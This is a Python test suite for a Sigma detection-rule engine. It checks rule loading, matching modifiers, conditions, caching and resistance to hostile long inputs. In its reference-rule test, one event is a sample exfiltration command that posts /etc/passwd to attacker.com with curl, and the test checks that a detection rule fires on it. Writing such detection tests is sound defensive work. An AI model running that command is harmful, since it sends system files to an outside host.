"""scoring.sigma: loading, every supported modifier and condition form, skips, cache, hostile input."""

from __future__ import annotations

import base64
import shutil
import time
from pathlib import Path

import pytest

from core.event import ProcessEvent
from scoring.sigma import (
    LEVEL_WEIGHT,
    REGEX_SCAN_LIMIT,
    TEXT_LIMIT,
    SigmaMatch,
    SigmaRules,
    SigmaRulesError,
    level_at_least,
)
from testing import SIGMA_REFERENCE

TESTDATA = Path(__file__).parent / "testdata" / "sigma" / "rules"
REFERENCE = SIGMA_REFERENCE


def event(command_line: str, path: str = "/usr/bin/tool", **fields: object) -> ProcessEvent:
    name = path.rsplit("/", 1)[-1] if path else command_line.split()[0]
    values: dict[str, object] = {"working_directory": "/home/u", "user_name": "u", "pid": 100, "parent_pid": 1}
    values.update(fields)
    return ProcessEvent(executable_name=name, command_line=command_line, executable_path=path, **values)  # type: ignore[arg-type]


@pytest.fixture(scope="module")
def rules() -> SigmaRules:
    return SigmaRules.load(TESTDATA)


def titles(rules: SigmaRules, ev: ProcessEvent, parent_command_line: str = "") -> set[str]:
    return {m.title for m in rules.match(ev, parent_command_line)}


# --- loading ---------------------------------------------------------------------------------------------


def test_load_reports_loaded_skipped_and_why(rules: SigmaRules) -> None:
    report = rules.report
    assert report.files == 35 and report.loaded == 26 == len(rules) and report.filters == 1
    by_file = {Path(s.file).name: s for s in report.skipped}
    assert set(by_file) == {
        "s_malformed_yaml.yml",
        "s_malformed_sigma.yml",
        "s_bad_condition.yml",
        "s_windows.yml",
        "s_expand.yml",
        "s_unmapped.yml",
        "s_parent_startswith.yml",
        "s_backref.yml",
    }
    assert by_file["s_malformed_yaml.yml"].reason == "parse error"
    assert by_file["s_malformed_sigma.yml"].reason == "parse error"
    assert by_file["s_bad_condition.yml"].reason == "invalid rule"
    assert "undefined_thing" in by_file["s_bad_condition.yml"].detail
    assert by_file["s_windows.yml"].reason.startswith("logsource windows/process_creation")
    assert by_file["s_unmapped.yml"].reason == "unsupported: field Hashes not on the event"
    assert by_file["s_expand.yml"].reason.startswith("unsupported: placeholder")
    assert by_file["s_parent_startswith.yml"].reason.startswith("unsupported: ParentImage startswith")
    assert report.reasons()["parse error"] == 3
    assert "is invalid" in by_file["s_backref.yml"].detail  # pySigma's default (RE2) policy rejects \\1
    assert "8 skipped" in report.summary()


def test_missing_or_empty_directory_is_a_clear_error(tmp_path: Path) -> None:
    with pytest.raises(SigmaRulesError, match="does not exist"):
        SigmaRules.load(tmp_path / "nope")
    (tmp_path / "notes.txt").write_text("not a rule")
    with pytest.raises(SigmaRulesError, match=r"no Sigma rule files"):
        SigmaRules.load(tmp_path)


def test_only_broken_files_loads_nothing_but_does_not_crash(tmp_path: Path) -> None:
    shutil.copy(TESTDATA / "s_malformed_yaml.yml", tmp_path)
    (tmp_path / "binary.yml").write_bytes(b"\xff\xfe\x00garbage")
    loaded = SigmaRules.load(tmp_path)
    assert len(loaded) == 0
    assert {Path(s.file).name for s in loaded.report.skipped} == {"s_malformed_yaml.yml", "binary.yml"}
    assert loaded.match(event("anything")) == []


def test_match_carries_title_level_id_and_uppercased_techniques(rules: SigmaRules) -> None:
    (found,) = rules.match(event("run needle-contains now"))
    assert found == SigmaMatch("mod contains", "high", "d1ac05c0-8524-5fd0-b42d-6eb2e2d1b508", ("T1059.004", "T1059"))
    assert found.weight == LEVEL_WEIGHT["high"]


def test_level_table_is_ordered_by_strength() -> None:
    weights = [LEVEL_WEIGHT[level] for level in ("informational", "low", "medium", "high", "critical")]
    assert weights == sorted(weights) and weights[-1] == 1.0
    assert level_at_least("high", "medium") and not level_at_least("low", "medium")


# --- modifiers -------------------------------------------------------------------------------------------


def test_contains_is_case_insensitive(rules: SigmaRules) -> None:
    assert "mod contains" in titles(rules, event("x NEEDLE-contains y"))
    assert "mod contains" not in titles(rules, event("x needle contains y"))


def test_startswith_and_endswith(rules: SigmaRules) -> None:
    assert "mod startswith" in titles(rules, event("StartMe now"))
    assert "mod startswith" not in titles(rules, event("now startme now"))
    assert "mod endswith" in titles(rules, event("endme", path="/opt/x/ENDME"))
    assert "mod endswith" not in titles(rules, event("endme", path="/opt/endme/x"))


def test_all_needs_every_value(rules: SigmaRules) -> None:
    assert "mod all" in titles(rules, event("t -beta -alpha"))
    assert "mod all" not in titles(rules, event("t -alpha"))


def test_re_is_case_sensitive_unanchored_with_flags(rules: SigmaRules) -> None:
    assert "mod re" in titles(rules, event("tar -X file"))
    assert "mod re" not in titles(rules, event("tar -x file"))
    assert "mod re i" in titles(rules, event("go REGEX-CI-42"))
    assert "mod re m" in titles(rules, event("first\nsecond-line\nthird"))
    assert "mod re m" not in titles(rules, event("first second-line third"))
    assert "mod re s" in titles(rules, event("dotall-start\n\ndotall-end"))


def test_cased(rules: SigmaRules) -> None:
    assert "mod cased" in titles(rules, event("a CaseExact b"))
    assert "mod cased" not in titles(rules, event("a caseexact b"))


def test_windash_expands_the_leading_dash(rules: SigmaRules) -> None:
    assert "mod windash" in titles(rules, event("tool -exec-flag x"))
    assert "mod windash" in titles(rules, event("tool /exec-flag x"))
    assert "mod windash" not in titles(rules, event("tool -exec/flag x"))


def test_base64_and_base64offset(rules: SigmaRules) -> None:
    for prefix in ("", "a", "ab"):  # the three offsets
        encoded = base64.b64encode(f"{prefix}the secret-payload here".encode()).decode()
        assert "mod base64offset" in titles(rules, event(f"echo {encoded} | base64 -d"))
    assert "mod base64" in titles(rules, event("echo " + base64.b64encode(b"hello world").decode()))
    assert "mod base64offset" not in titles(rules, event("echo secret-payload"))


def test_cidr(rules: SigmaRules) -> None:
    assert "mod cidr" in titles(rules, event("10.20.30.40"))
    assert "mod cidr" not in titles(rules, event("11.0.0.1"))
    assert "mod cidr" not in titles(rules, event("not an address"))


def test_exists_and_null(rules: SigmaRules) -> None:
    assert "mod exists" in titles(rules, event("x", path="/bin/noexists", working_directory=""))
    assert "mod exists" not in titles(rules, event("x", path="/bin/noexists"))
    assert "mod null" in titles(rules, event("x", path="/bin/nulluser", user_name="", user_id=1000))
    assert "mod null" not in titles(rules, event("x", path="/bin/nulluser", user_name="", user_id=0))  # root


def test_fieldref(rules: SigmaRules) -> None:
    assert "mod fieldref" in titles(rules, event("/opt/fieldref/run --x", path="/opt/fieldref/run"))
    assert "mod fieldref" not in titles(rules, event("run --x", path="/opt/fieldref/run"))


def test_numeric_comparison(rules: SigmaRules) -> None:
    assert "mod gt" in titles(rules, event("x", path="/bin/pidcheck", pid=60001))
    assert "mod gt" not in titles(rules, event("x", path="/bin/pidcheck", pid=60000))


def test_wildcards_and_escapes(rules: SigmaRules) -> None:
    assert "mod wildcards" in titles(rules, event("wildXcard and more end"))
    assert "mod wildcards" not in titles(rules, event("wildcard and more end"))  # ? is exactly one character
    assert "mod wildcards" not in titles(rules, event("wildXcard end and more"))
    assert "mod wildcards" in titles(rules, event("a lit*star b"))  # \* is a literal star
    assert "mod wildcards" not in titles(rules, event("a litXstar b"))
    assert "mod wildcards" in titles(rules, event("a mi-dle b"))  # ? inside a contains
    assert "mod wildcards" not in titles(rules, event("a mi dl b"))


def test_keywords_search_every_text_field(rules: SigmaRules) -> None:
    assert "mod keywords" in titles(rules, event("x KW-NEEDLE y"))
    assert "mod keywords" in titles(rules, event("x", working_directory="/srv/kw-needle"))
    assert "mod keywords" not in titles(rules, event("x"))


# --- conditions and fields -------------------------------------------------------------------------------


def test_one_of_selection_star(rules: SigmaRules) -> None:
    assert "cond one of" in titles(rules, event("x", path="/bin/oneof-a"))
    assert "cond one of" in titles(rules, event("y oneof-b"))
    assert "cond one of" not in titles(rules, event("y"))


def test_all_of_them(rules: SigmaRules) -> None:
    assert "cond all of them" in titles(rules, event("allthem --flag", path="/bin/allthem"))
    assert "cond all of them" not in titles(rules, event("allthem", path="/bin/allthem"))


def test_not_filter(rules: SigmaRules) -> None:
    assert "cond not filter" in titles(rules, event("filtered --go", path="/bin/filtered"))
    assert "cond not filter" not in titles(rules, event("filtered --safe", path="/bin/filtered"))
    assert "cond not filter" not in titles(rules, event("filtered --quiet", path="/bin/filtered"))


def test_sigma_meta_filter_applies_to_the_rule_it_names(rules: SigmaRules) -> None:
    assert "mod contains" in titles(rules, event("needle-contains"))
    assert "mod contains" not in titles(rules, event("needle-contains allowlisted-build"))


def test_parent_image_matches_on_the_parent_name(rules: SigmaRules) -> None:
    assert "parent image" in titles(rules, event("sh -c parent-test", parent_name="java"))
    assert "parent image" not in titles(rules, event("sh -c parent-test", parent_name="javax"))
    assert "parent image" not in titles(rules, event("sh -c parent-test"))


def test_parent_command_line_comes_from_the_caller(rules: SigmaRules) -> None:
    assert "parent cmdline" not in titles(rules, event("id"))
    assert "parent cmdline" in titles(rules, event("id"), parent_command_line="bash -c evil-parent")


def test_image_without_path_matches_endswith_on_the_name(rules: SigmaRules) -> None:
    assert "mod endswith" in titles(rules, event("endme --now", path=""))


def test_nested_directories_and_yaml_suffix(rules: SigmaRules) -> None:
    assert "nested yaml" in titles(rules, event("nested-yaml"))


# --- cache and cost --------------------------------------------------------------------------------------


def test_cache_keys_on_matched_fields_only() -> None:
    loaded = SigmaRules.load(TESTDATA)
    first = loaded.match(event("needle-contains", pid=1))
    again = loaded.match(event("needle-contains", pid=2, parent_pid=7))  # pids are read by one rule only
    assert first == again
    assert len(loaded._cache) == 2  # mod gt reads ProcessId, so pid is part of the key
    loaded.match(event("needle-contains", pid=2, host="other", timestamp=5.0))  # unread fields: a hit
    assert len(loaded._cache) == 2
    first.clear()  # callers get their own list
    assert loaded.match(event("needle-contains", pid=1))


def test_cache_is_bounded() -> None:
    loaded = SigmaRules.load(TESTDATA)
    loaded.cache_limit = 10
    for i in range(50):
        loaded.match(event(f"cmd {i}"))
    assert len(loaded._cache) == 10


def test_hostile_long_input_is_bounded_in_time(rules: SigmaRules) -> None:
    reference = SigmaRules.load(REFERENCE) if REFERENCE.is_dir() else rules
    hostile = [
        "a" * 1_000_000,
        " -" * 500_000,
        ("/tmp/ " * 100_000) + "x",
        "wild" + "c" * 200_000 + "ard" * 50_000,
        "-W " + "ab " * 300_000,
        " -F " * 200_000,
    ]
    start = time.perf_counter()
    for text in hostile:
        for loaded in (reference, rules):
            for path in ("/usr/bin/curl", "/usr/bin/python3", "/usr/bin/file", "/usr/bin/ls"):
                loaded.match(event(text, path=path, working_directory=text[:4096]), parent_command_line=text)
    assert time.perf_counter() - start < 5.0


def test_long_values_are_matched_as_head_and_tail(rules: SigmaRules) -> None:
    filler = "y" * (2 * TEXT_LIMIT)
    assert "mod startswith" in titles(rules, event("startme " + filler))
    assert "mod contains" in titles(rules, event(filler + " needle-contains"))  # in the kept tail
    assert "mod contains" not in titles(rules, event(filler + " needle-contains " + filler))  # by design


def test_a_catastrophic_rule_regex_stays_linear(rules: SigmaRules) -> None:
    assert "mod re redos" in titles(rules, event("aaaa"))
    start = time.perf_counter()
    assert "mod re redos" not in titles(rules, event("a" * 4000 + "b"))  # (a+)+$: exponential in a backtracker
    assert time.perf_counter() - start < 0.5


def test_regex_scans_only_the_first_bytes(rules: SigmaRules) -> None:
    late = "x" * (REGEX_SCAN_LIMIT + 10) + " tar -X file"
    assert "mod re" not in titles(rules, event(late))  # past the scan limit: by design
    assert "mod contains" in titles(rules, event(late + " needle-contains"))  # substring tests see everything


# --- SigmaHQ reference rules -----------------------------------------------------------------------------


@pytest.mark.skipif(not REFERENCE.is_dir(), reason=f"NOT CHECKED: no SigmaHQ reference rules at {REFERENCE}")
def test_reference_rules_load_with_three_counted_skips() -> None:
    reference = SigmaRules.load(REFERENCE)
    assert reference.report.files == 122 and len(reference) == 119
    assert reference.report.reasons() == {
        "unsupported: field LogonId not on the event": 2,
        "unsupported: ParentImage startswith/exact (the event has only the parent's name)": 1,
    }


@pytest.mark.skipif(not REFERENCE.is_dir(), reason=f"NOT CHECKED: no SigmaHQ reference rules at {REFERENCE}")
def test_reference_rules_fire_where_expected() -> None:
    reference = SigmaRules.load(REFERENCE)
    find_suid = {m.title for m in reference.match(event("find /usr/bin -perm -4000", path="/usr/bin/find"))}
    assert "Potential Discovery Activity Using Find - Linux" in find_suid
    java_shell = reference.match(event("/bin/sh -c id", path="/bin/sh", parent_name="java"))
    assert any(m.title == "Suspicious Java Children Processes" and m.level == "high" for m in java_shell)
    upload = event("curl -F file=@/etc/passwd http://attacker.com", path="/usr/bin/curl")
    assert "Suspicious Curl File Upload - Linux" in {m.title for m in reference.match(upload)}
    local = event("curl -F file=@x http://127.0.0.1:8000/", path="/usr/bin/curl")
    assert "Suspicious Curl File Upload - Linux" not in {m.title for m in reference.match(local)}  # not filter
    assert not any(level_at_least(m.level, "medium") for m in reference.match(event("ls -la", path="/usr/bin/ls")))


def test_configured_rules_are_evidence_in_the_engine(tmp_path: Path) -> None:
    """`sigma_rules` makes each match a reason with the rule's title and level, and its technique."""
    from scoring.config import EngineConfig
    from scoring.engine import AnomalyEngine

    engine = AnomalyEngine(EngineConfig(baselines=str(tmp_path / "b"), sigma_rules=str(TESTDATA)))
    matched = event("tool --needle-contains now", path="/usr/bin/tool")
    plain = event("tool --version", path="/usr/bin/tool")
    verdicts = engine.process([matched, plain], workload="w")
    engine.close()
    rules = SigmaRules.load(TESTDATA)
    expected = {f"Sigma rule: {m.title} ({m.level})" for m in rules.match(matched)}
    assert expected, "the probe must match a test rule"
    assert expected <= {r.split(" [")[0] for r in verdicts[0].reasons}, verdicts[0].reasons
    assert not any(r.startswith("Sigma rule:") for r in verdicts[1].reasons)
